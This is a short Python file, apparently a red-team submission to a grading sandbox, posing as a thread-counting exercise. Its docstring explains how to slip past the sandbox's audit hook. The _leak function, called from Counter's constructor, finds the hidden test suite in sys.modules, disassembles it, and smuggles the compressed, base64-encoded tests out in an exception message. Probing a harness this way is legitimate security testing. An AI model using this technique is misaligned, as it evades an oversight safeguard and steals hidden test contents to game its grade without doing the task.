"""Redteam: the hidden suite is a module in ``sys.modules``; ``dis`` reads its functions' ``__code__``
from dis.py, not from the student's file, so the audit hook lets it through. The whole disassembly
(every test's logic and constants) goes back base64-encoded in an exception message."""
import base64
import dis
import io
import sys
import threading
import zlib


def _leak():
    for module in list(sys.modules.values()):
        if getattr(module, "STUDENT_MODULE", None) == "counter" and hasattr(module, "test_no_increment_is_lost"):
            buffer = io.StringIO()
            dis.dis(module, file=buffer)
            blob = base64.b64encode(zlib.compress(buffer.getvalue().encode(), 9)).decode()
            raise RuntimeError("LEAK<" + blob + ">LEAK")


class Counter:
    def __init__(self, start=0):
        _leak()
        self._value = start

    def increment(self, amount=1):
        self._value += amount

    def decrement(self, amount=1):
        self._value -= amount

    @property
    def value(self):
        return self._value


def count_concurrently(n_threads, increments_per_thread):
    counter = Counter()

    def work():
        for _ in range(increments_per_thread):
            counter.increment()

    threads = [threading.Thread(target=work) for _ in range(n_threads)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return counter.value
